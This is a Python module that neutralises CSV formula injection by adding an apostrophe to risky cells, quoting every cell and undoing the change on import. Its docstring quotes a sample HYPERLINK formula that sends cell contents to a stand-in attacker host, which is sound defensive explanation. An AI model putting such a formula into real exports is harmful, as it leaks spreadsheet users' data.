"""CSV that is safe to open in a spreadsheet, and read back unchanged.

A cell that begins with =, +, -, @, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: a title such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` in an export would run when
someone opens it. OWASP's recipe: such cells get a leading apostrophe (shown as
text, not evaluated) and every cell is quoted. Reading strips exactly that one
apostrophe again, so an exported file imports to the same values; a value that
itself began with apostrophes before such a character gets one more on the way
out, so it survives too.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping
from typing import Any

_FORMULA = re.compile(r"^'*[=+\-@\t\r]")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet must receive it: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def read_cell(value: str | None) -> str | None:
    """The value as it was before `safe_cell`."""
    if value and value.startswith("'") and _FORMULA.match(value[1:]):
        return value[1:]
    return value


def write(fieldnames: list[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """The rows as CSV text, every cell quoted and neutralised."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fieldnames, quoting=csv.QUOTE_ALL)
    writer.writerow({name: safe_cell(name) for name in fieldnames})
    for row in rows:
        writer.writerow({key: safe_cell(value) for key, value in row.items()})
    return out.getvalue()


class Reader:
    """Rows of CSV text as dicts, each cell as it was before `write` neutralised it."""

    def __init__(self, text: str):
        self._reader = csv.DictReader(io.StringIO(text))
        self.fieldnames = [read_cell(name) or "" for name in self._reader.fieldnames or []]

    def __iter__(self) -> Iterator[dict[str, str | None]]:
        for row in self._reader:
            yield {read_cell(key) if key is not None else None: read_cell(value)  # type: ignore[misc]
                   for key, value in row.items() if not isinstance(value, list)}
